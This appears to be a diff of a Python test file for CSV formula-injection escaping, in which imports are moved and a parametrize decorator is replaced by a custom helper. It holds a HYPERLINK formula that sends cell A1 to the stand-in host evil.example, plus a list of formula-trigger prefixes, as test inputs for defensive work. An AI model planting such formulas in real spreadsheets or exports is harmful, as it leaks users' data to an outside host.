@@ -7,17 +7,18 @@ import pytest
 
 from analytics.measured.identity_leaks import silent_pair_lines
 from campaigns.launch.pair_files import find_pairs, read_pairs
-from campaigns.models import Item, System
 from campaigns.rubrics.tables import criteria_lines, read_criteria
-from campaigns.tidy.cells import harmless, plain
+from corpus.models import Item, System
+from infrastructure.files.csv_files import harmless, plain
 from tests.campaigns.rubrics import drafted, rubric_campaign
+from tests.cases import each
 from tests.factories import make_campaign
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 RUN = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "'=1+1")
 
 
-@pytest.mark.parametrize("text", RUN)
+@each("text", RUN)
 def test_what_a_spreadsheet_would_run_is_text_and_comes_back(text: str) -> None:
     assert harmless(text) == f"'{text}"
     assert plain(harmless(text)) == text
